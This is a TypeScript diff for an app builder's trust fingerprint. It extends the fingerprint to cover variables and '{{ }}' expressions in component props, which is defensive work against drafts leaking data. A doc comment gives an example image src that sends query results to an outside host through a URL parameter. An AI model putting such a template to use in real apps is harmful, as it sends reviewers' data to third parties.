@@ -13,17 +13,36 @@ const PREFIX = "lathe.trusted-draft";
 // A record too large for the browser's storage is not kept: the builder asks again next time.
 const MAX_RECORD = 256 * 1024;
 
-/** What decides what a draft runs by itself: its queries and every event handler. */
+/**
+ * What decides what a draft does by itself with the data its queries return: its queries,
+ * every event handler, the variables, and every `{{ }}` expression in a component's props
+ * (an image whose `src` is `https://elsewhere/?d={{ queries.q.data }}` would send a
+ * reviewer's results away). Layout and props without an expression (plain text, colours)
+ * are left out, so moving a component or fixing a label doesn't ask again.
+ */
 export function runFingerprint(definition: Definition): string {
   const handlers: { id: string; events: EventHandler[] }[] = [];
+  const expressions: { id: string; path: string; value: string }[] = [];
   const walk = (components: readonly Component[]) => {
     for (const c of components) {
       if (c.events?.length) handlers.push({ id: c.id, events: c.events });
+      collectExpressions(c.props ?? {}, "", (path, value) => expressions.push({ id: c.id, path, value }));
       walk(c.children ?? []);
     }
   };
   for (const page of definition.pages) walk(page.components);
-  return canonical({ queries: definition.queries ?? [], handlers });
+  return canonical({ queries: definition.queries ?? [], handlers, expressions, variables: definition.variables ?? {} });
+}
+
+/** Calls `found` for every string holding `{{` inside `value`, with its JSON path. */
+function collectExpressions(value: unknown, path: string, found: (path: string, value: string) => void) {
+  if (typeof value === "string") {
+    if (value.includes("{{")) found(path, value);
+  } else if (Array.isArray(value)) {
+    value.forEach((item, i) => collectExpressions(item, `${path}/${i}`, found));
+  } else if (value !== null && typeof value === "object") {
+    for (const [k, v] of Object.entries(value as Record<string, unknown>)) collectExpressions(v, `${path}/${k}`, found);
+  }
 }
 
 /** JSON with object keys sorted, so a store that reorders keys doesn't change the text. */
